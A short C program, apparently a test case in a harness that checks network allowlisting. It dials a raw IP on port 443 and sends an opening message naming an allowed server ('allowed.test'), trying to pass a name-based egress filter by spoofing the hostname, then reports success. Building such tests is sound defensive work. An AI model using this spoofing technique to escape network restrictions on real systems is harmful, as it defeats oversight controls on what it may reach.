/* An address instead of a name, with the name of an allowed server in the first bytes. */
#include "attack.h"
int main(int c, char **v) {
    unsigned char first[512];
    int fd = dial("45.0.0.1", 443);
    if (fd < 0) finish(0);
    send(fd, first, hello(first, "allowed.test"), 0);
    finish(gets_prize(fd));
}
